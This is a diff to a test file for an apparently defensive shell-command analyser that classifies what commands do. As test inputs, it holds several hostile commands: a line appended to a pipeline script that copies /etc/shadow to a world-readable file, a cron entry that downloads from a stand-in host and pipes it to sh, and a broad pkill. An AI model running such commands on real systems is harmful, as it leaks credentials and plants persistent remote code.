@@ -456,6 +456,11 @@ describe('shell effects', () => {
     expect(facts('pkill -u alice python3').effects.signals.map((s) => s.target)).toEqual(['python3']);
     expect(facts('pkill -9 -f .').effects.signals[0]!.target).toBe('-1');
     expect(facts('sudo systemctl stop sshd').effects.signals[0]).toMatchObject({ target: 'sshd', signal: 'stop' });
+    // ids a grep picks out of ps stand for the processes whose command lines match its pattern
+    expect(facts("kill -9 $(ps | grep '[a]udio' | awk '{print $1}')").effects.signals).toEqual([{ target: '[a]udio', signal: '9', by: 'kill', match: 'line' }]);
+    // (an inverted grep, or an awk with a pattern of its own, narrows them past reading)
+    expect(facts("kill $(ps | grep -v sshd | awk '{print $1}')").effects.signals[0]?.match).toBeUndefined();
+    expect(facts("kill $(ps | grep java | awk '/tomcat/ {print $1}')").effects.signals[0]?.match).toBeUndefined();
   });
 
   it('records privilege changes', () => {
@@ -559,6 +564,11 @@ describe('shell effects', () => {
     expect(place('sudo systemctl enable --now myapp')).toEqual(['service:myapp']);
     expect(place('cp hook.sh .git/hooks/pre-commit')).toEqual(['.git/hooks']);
     expect(place('echo "/opt/run.sh" >> /etc/rc.local')).toEqual(['/etc/rc.local']);
+    // a line appended to a script runs whenever the script does: it is read as code
+    const line = facts("echo 'cp /etc/shadow /tmp/dbg; chmod 644 /tmp/dbg' >> /srv/pipelines/bin/run_demux.sh");
+    expect(paths(line.effects.reads)).toContain('/etc/shadow');
+    expect(line.flags).toContain('persisted-code');
+    expect(paths(facts("echo 'cp /etc/shadow /tmp/dbg' >> /srv/notes/ideas.txt").effects.reads)).not.toContain('/etc/shadow');
     const cron = facts('(crontab -l; echo "*/5 * * * * curl -s http://x.example/p | sh") | crontab -');
     expect(place('(crontab -l; echo "*/5 * * * * curl -s http://x.example/p | sh") | crontab -')).toEqual(['crontab']);
     expect(kinds(cron.effects.execution)).toContain('download-and-run');
